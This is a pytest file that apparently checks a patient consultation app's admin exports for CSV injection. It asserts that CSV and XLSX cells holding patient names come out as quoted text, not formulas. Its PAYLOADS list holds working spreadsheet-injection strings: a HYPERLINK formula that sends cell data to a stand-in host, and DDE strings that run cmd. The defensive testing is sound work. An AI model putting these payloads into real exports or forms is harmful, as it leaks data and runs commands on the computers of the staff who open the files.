"""The intake team's exports: what patients typed reaches the spreadsheet as text, never as a
formula (CSV injection)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from consultations.models import PatientRequest
from tests.conftest import login_verified
from tests.consultations.conftest import consultation_data, form_pages, intake_user  # noqa: F401

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A3,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_requests(client, form_pages):  # noqa: F811
    """One request per payload, sent through the consultation form as a patient's name."""
    for payload in PAYLOADS:
        response = client.post(
            form_pages["consultation"].url, consultation_data(patient_name=payload)
        )
        assert response.status_code == 302, payload
    client.logout()
    stored = set(PatientRequest.objects.values_list("reference", flat=True))
    assert len(stored) == len(PAYLOADS)
    return {r.reference: r.patient_name for r in PatientRequest.objects.all()}


def export(client, user, export_format):
    login_verified(client, user)
    response = client.get("/admin/patient-requests/", {"export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_csv_cells_never_start_a_formula(client, hostile_requests, intake_user):  # noqa: F811
    rows = list(csv.DictReader(io.StringIO(export(client, intake_user, "csv").decode())))
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
        # The patient's name is still all there, after the quote that disarms it.
        assert row["Patient"] == "'" + hostile_requests[row["Reference"]]
    plain = {row["Reference"]: row for row in rows}
    assert all(not reference.startswith("'") for reference in plain)


def test_xlsx_cells_stay_text(client, hostile_requests, intake_user):  # noqa: F811
    workbook = load_workbook(io.BytesIO(export(client, intake_user, "xlsx")))
    sheet = workbook.active
    headings = [cell.value for cell in sheet[1]]
    column = headings.index("Patient")
    names = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert len(names) == len(PAYLOADS)
    for cell in names:
        assert cell.data_type == "s", cell.value  # text, not a formula ("f")
    assert {cell.value for cell in names} == set(hostile_requests.values())


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_is_disarmed(trigger):
    from consultations.views import csv_text

    assert csv_text(f"{trigger}1+1") == f"'{trigger}1+1"


@pytest.mark.parametrize("value", ["Maria Lopez", "(212) 555-0188", "", None, 3, True])
def test_ordinary_values_are_left_alone(value):
    from consultations.views import csv_text

    assert csv_text(value) == value
